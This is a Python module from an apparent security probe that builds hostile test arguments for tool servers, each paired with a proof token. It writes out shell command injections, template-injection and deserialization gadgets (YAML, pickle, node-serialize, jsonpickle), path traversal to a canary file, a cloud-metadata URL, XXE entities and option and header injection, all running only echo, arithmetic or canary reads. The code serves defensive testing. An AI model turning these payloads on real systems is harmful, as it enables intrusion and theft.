"""Makes inputs of a malicious caller, each with a proof by which it is recognised that a tool let it act. Pure.

A tool that puts an argument into a command, a template or a path does what whoever writes the argument wants: a page
that the model has read, for one. Honest inputs never show that. These do nothing but start `/bin/echo`, calculate a
product, write an empty file to /tmp, look up a name of their own, or open a canary.
"""

from __future__ import annotations

import base64
import re
import secrets
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Literal

from proxy.probe.declared_words import EXEC_PARAMETERS, split_words
from proxy.probe.synthesise import Input, fits, synthesise

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from proxy.core.model import JsonObject
    from proxy.probe.synthesise import SampleFiles

type Proof = Literal["ran", "shown", "opened", "reached", "complained", "filtered", "wrote", "headed", "placed"]
# So many for all parameters in one input, and for these in further ones.
MAX_CALLS, MAX_VARIED = 280, 160
MAX_PARAMETERS = 6
# So many items of a list, none of them long, are no reason to use up a machine; and neither is a number of this size,
# except where the work doubles with each one more.
MANY = 30
LARGER = 60
ECHO = "/bin/echo"
METADATA = "169.254.169.254"
# A module that every Python has, and no program imports.
MODULE = "antigravity"
UP = "a path that leads up"
ENTITY = "an entity of XML"
OPTION = "an option of a program"
_PATHS = re.compile(r"\b(path|file|filename|filepath|uri|url|source|module|plugin|script|document|template|config)s?\b")
_URLS = re.compile(r"\b(url|uri|link|endpoint|host|hostname|webhook|address|website|server|source)s?\b")
_ENCODED = re.compile(r"\b(base ?64|b64|encoded|serialized|serialised|pickled?|data|payload|blob|bytes|object|state)\b")
_MODULES = re.compile(r"\b(module|library|package|plugin|extension|class)\b")
_TEMPLATES = re.compile(r"\b(template|format|expression|formula|equation|calculat\w*|evaluat\w*|math\w*)\b")
_XML = re.compile(r"\b(xml|svg|soap|rss|atom|feed|sitemap|html|markup|docx|xlsx|invoice|wsdl|xsd|xslt)\b")
_SQL = re.compile(r"\b(sql|sqlite|postgres\w*|mysql)\b")
_STATEMENTS = re.compile(r"\b(sql|statement|query|queries)\b")


@dataclass(frozen=True, slots=True)
class Attempt:
    """One hostile input: the parameter that holds it, and what shows that it acted."""

    arguments: JsonObject
    parameter: str
    label: str
    proof: Proof
    token: str  # the marker, the product, the path or the peer


@dataclass(frozen=True, slots=True)
class Bait:
    """What a hostile argument may name: a canary that no argument of an honest caller names, and files with code."""

    secret: str  # the path of a canary
    files: tuple[str, ...]  # that start `/bin/echo` with `token`, if something runs them
    token: str

    @property
    def lure(self) -> str:
        """The name of a file that is nowhere: where it is looked for, a tool has its folder."""
        return f"{self.token}.txt"


@dataclass(frozen=True, slots=True)
class _Text:
    label: str
    text: str
    proof: Proof
    token: str


def bait_files(token: str) -> dict[str, str]:
    """Return files, by name, that start `/bin/echo` with a token where something runs, imports or loads them."""
    python = f"__import__('os').system('{ECHO} {token}')\n"
    return {
        "extension.py": python,
        "extension.js": f"require('child_process').execSync('{ECHO} {token}')\n",
        "extension.sh": f"#!/bin/sh\n{ECHO} {token}\n",
        "settings.yaml": f"name: !!python/object/apply:os.system ['{ECHO} {token}']\n",
        "state.pkl": _pickle(token).decode("latin-1"),
    }


def takes_sql(tool: JsonObject) -> bool:
    """Return whether a tool is there to run queries of its caller's."""
    schema = tool.get("inputSchema")
    properties = schema.get("properties") if isinstance(schema, dict) else None
    about = _words(f"{tool.get('name', '')} {tool.get('description', '')}")
    named = _words(" ".join(properties) if isinstance(properties, dict) else "")
    return "sql" in named.split() or bool(_SQL.search(f"{about} {named}") and _STATEMENTS.search(named))


def attempts(tool: JsonObject, samples: SampleFiles, bait: Bait, *, sql: bool = False) -> tuple[Attempt, ...]:
    """Return hostile inputs for the texts and lists that a tool takes, bounded.

    With `sql` the server runs any query that its caller writes, so a quotation mark leads nowhere.
    """
    schema = tool.get("inputSchema")
    root: JsonObject = schema if isinstance(schema, dict) else {}
    inputs = synthesise(tool, samples)
    bases = _bases(inputs)
    # What is left out switches nothing on or off that would keep a text from being used.
    bare = [each.arguments for each in inputs if each.label == "required"]
    about = _words(f"{tool.get('name', '')} {tool.get('description', '')}")
    found: list[Attempt] = []
    tried: list[tuple[str, JsonObject]] = []
    # One input after another: where there are too many, each text has been tried in the first.
    for arguments in [*bare, *(each for each in bases if each not in bare)]:
        if len(found) >= MAX_VARIED:
            break
        for name in (each for each in _texts(bases) if each in arguments):
            beside = (name, {other: value for other, value in arguments.items() if other != name})
            if beside in tried:
                continue
            tried.append(beside)
            described = _words(f"{name} {_described(root, name)}")
            runs = not EXEC_PARAMETERS.isdisjoint(split_words(name))
            made = (_put(arguments, name, each) for each in _payloads(described, about, bait, runs=runs, sql=sql))
            found += [each for each in made if each is not None and fits(root, each.arguments)]
    return tuple(found[:MAX_CALLS])


def crowds(tool: JsonObject, samples: SampleFiles) -> tuple[Input, ...]:
    """Return inputs with more items in their lists, and larger numbers, than an example has; still few and small."""
    schema = tool.get("inputSchema")
    root: JsonObject = schema if isinstance(schema, dict) else {}
    base: JsonObject = max((each.arguments for each in synthesise(tool, samples)), key=len, default={})
    lists = {name: value * MANY for name, value in base.items() if isinstance(value, list) and value}
    numbers = {name: LARGER for name, value in base.items() if type(value) is int and value < LARGER}
    made = (Input("many items", {**base, **lists}), Input("larger numbers", {**base, **numbers}))
    return tuple(each for each in made if each.arguments != base and fits(root, each.arguments))


def _bases(inputs: Sequence[Input]) -> list[JsonObject]:
    """Return the inputs that name all parameters: with what can be switched off, and on."""
    return [each.arguments for each in inputs if each.label in ("all", "other")] or [
        each.arguments for each in inputs[:1]
    ]


def _texts(bases: Sequence[JsonObject]) -> list[str]:
    names = dict.fromkeys(name for each in bases for name, value in each.items() if _is_text(value))
    return list(names)[:MAX_PARAMETERS]


def _is_text(value: Any) -> bool:
    return isinstance(value, str) or (isinstance(value, list) and bool(value) and isinstance(value[0], str))


def _described(root: JsonObject, name: str) -> str:
    properties = root.get("properties")
    schema = properties.get(name) if isinstance(properties, dict) else None
    return str(schema.get("description", ""))[:200] if isinstance(schema, dict) else ""


def _put(arguments: JsonObject, name: str, payload: _Text) -> Attempt | None:
    given = arguments.get(name)
    if not _is_text(given):
        return None
    value: Any = [payload.text] if isinstance(given, list) else payload.text
    return Attempt({**arguments, name: value}, name, payload.label, payload.proof, payload.token)


def _payloads(described: str, about: str, bait: Bait, *, runs: bool, sql: bool) -> Iterator[_Text]:
    if not runs:  # a parameter that is called `command` is there to be run
        yield from _commands()
        yield from _files(described, bait)
        yield from _modules(described)
        if _ENCODED.search(described):
            yield from _encoded()
        yield from _options(bait)
        if _XML.search(f"{described} {about}"):
            yield from _entities(bait)
    else:
        yield from _asked(bait)
    yield from _templates(expected=_TEMPLATES.search(f"{described} {about}") is not None)
    yield from _places(described, bait)
    if not sql:
        yield _Text("a quotation mark in a query", "O'Brien'\"", "complained", "'")
        token = marker()
        yield _Text("brackets in a filter", f"{token}*)(|(q=*", "filtered", token)


# A module of Node, in source of either kind.
_NODE = "process.getBuiltinModule('child_process').execSync('{}')"


def _commands() -> Iterator[_Text]:
    forms = ("$({})", "x;{};#", "';{};'", '";{};"', "x|{}", "x\n{}\n")
    for form in forms:
        token = marker()
        yield _Text("a command of a shell", form.format(f"{ECHO} {token}"), "ran", token)
    code = (
        "__import__('os').system('{}')",
        "global.process.mainModule.constructor._load('child_process').execSync('{}')",
        # Engines of templates, each in the form in which it runs code.
        "{{{{cycler.__init__.__globals__.os.popen('{}').read()}}}}",
        "${{__import__('os').popen('{}').read()}}",
        "#import os\n$os.popen('{}').read()",
        "{{% import os %}}{{{{os.popen('{}').read()}}}}",
        *(form % _NODE for form in ("%s", "{{{{%s}}}}", "${{%s}}", "<%%= %s %%>", "#{{%s}}")),
        "!!python/object/apply:os.system ['{}']",
        # What unpacks objects calls what they say: node-serialize, and jsonpickle.
        '{{"q":"_$$ND_FUNC$$_function(){{' + _NODE + '}}()"}}',
        '{{"py/reduce":[{{"py/type":"os.system"}},{{"py/tuple":["{}"]}}]}}',
    )
    for form in code:
        token = marker()
        yield _Text("code", form.format(f"{ECHO} {token}"), "ran", token)


def _templates(*, expected: bool) -> Iterator[_Text]:
    # To a tool that says that it fills in templates, or calculates, a product is no escape; the objects of its
    # language are.
    if not expected:
        for form in ("{{{{{}*{}}}}}", "${{{}*{}}}", "<%= {}*{} %>", "#{{{}*{}}}", "{{{}*{}}}", "@({}*{})"):
            one, other = 10_000 + secrets.randbelow(80_000), 10_000 + secrets.randbelow(80_000)
            yield _Text("an expression in a template", form.format(one, other), "shown", str(one * other))
    for form in ("{0.__class__}", "{name.__class__}", "{value.__class__}"):
        yield _Text("an attribute in a format", form, "shown", "<class '")
    yield _Text("a module in a template", "$os ${sys}", "shown", "<module '")


def _asked(bait: Bait) -> Iterator[_Text]:
    """Yield what a malicious caller has a tool do that runs what it is told."""
    for text in (f"cat {bait.secret}", f"print(open('{bait.secret}').read())", f"open('{bait.secret}').read()"):
        yield _Text("a command that reads a secret", text, "opened", bait.secret)
    code = f"open('{bait.secret}').read()".encode()
    yield _Text("a command that reads a secret", base64.b64encode(code).decode(), "opened", bait.secret)


def _places(described: str, bait: Bait) -> Iterator[_Text]:
    bare = bait.secret.lstrip("/")
    yield _Text("a name in a folder", bait.lure, "placed", bait.lure)
    # Filters take the steps out once, look for them before they decode them, or know one kind of slash.
    for step in ("../", "....//", "..%2f", "%2e%2e/", "..\\"):
        yield _Text(UP, f"{step * 12}{bare}", "opened", bait.secret)
    yield _Text(UP, f"{'../' * 12}{bare}\0.txt", "opened", bait.secret)
    if _URLS.search(described):
        yield _Text("the address of a cloud's metadata", f"http://{METADATA}/latest/meta-data/", "reached", METADATA)


def _options(bait: Bait) -> Iterator[_Text]:
    """Yield options of usual programs, for a tool that puts a text among a program's words as it is."""
    token = marker()
    for form in ("--output={}", "-o{}"):
        yield _Text(OPTION, form.format(f"/tmp/{token}"), "wrote", f"/tmp/{token}")  # noqa: S108
    yield _Text(OPTION, f"-oProxyCommand={ECHO} {token}", "ran", token)
    yield _Text(OPTION, f"--file={bait.secret}", "opened", bait.secret)
    yield _Text("a line of a header", f"{token}\r\n{token}: 1", "headed", f"\r\n{token}: 1")


def _entities(bait: Bait) -> Iterator[_Text]:
    """Yield documents whose entities a reader of XML should not look up: a secret, and another host."""
    token = marker()
    address = f"http://{token}.example/a.dtd"
    for head, body in (
        (f'<!DOCTYPE a [<!ENTITY q SYSTEM "file://{bait.secret}">]>', "<a>&q;</a>"),
        ("", f'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include parse="text" href="file://{bait.secret}"/></a>'),
    ):
        yield _Text(ENTITY, f'<?xml version="1.0"?>{head}{body}', "opened", bait.secret)
    for head, body in (
        (f'<!DOCTYPE a [<!ENTITY q SYSTEM "{address}">]>', "<a>&q;</a>"),
        (f'<!DOCTYPE a [<!ENTITY % q SYSTEM "{address}"> %q;]>', "<a/>"),
        (f'<!DOCTYPE a SYSTEM "{address}">', "<a/>"),
    ):
        yield _Text(ENTITY, f'<?xml version="1.0"?>{head}{body}', "reached", f"{token}.example")


def _files(described: str, bait: Bait) -> Iterator[_Text]:
    if _PATHS.search(described):
        for path in bait.files:
            yield _Text("a file with code", path, "ran", bait.token)


def _modules(described: str) -> Iterator[_Text]:
    if _MODULES.search(described):
        yield _Text("the name of a module", MODULE, "opened", f"/{MODULE}.")


def _encoded() -> Iterator[_Text]:
    for make in (_script, _pickle, _function):
        token = marker()
        yield _Text("code in base64", base64.b64encode(make(token)).decode(), "ran", token)
    token = marker()
    yield _Text("a pickle", _pickle(token).decode("latin-1"), "ran", token)


def _script(token: str) -> bytes:
    return f"__import__('os').system('{ECHO} {token}')".encode()


def _function(token: str) -> bytes:
    return ('{"q":"_$$ND_FUNC$$_function(){' + _NODE.format(f"{ECHO} {token}") + '}()"}').encode()


def _pickle(token: str) -> bytes:
    # By hand, in protocol 0, which is text: to make one with `pickle` needs a class for it.
    return f"cos\nsystem\n(S'{ECHO} {token}'\ntR.".encode()


def marker() -> str:
    """Return a word that occurs nowhere else."""
    return f"q{secrets.token_hex(6)}"


def _words(text: str) -> str:
    return " ".join(split_words(text))
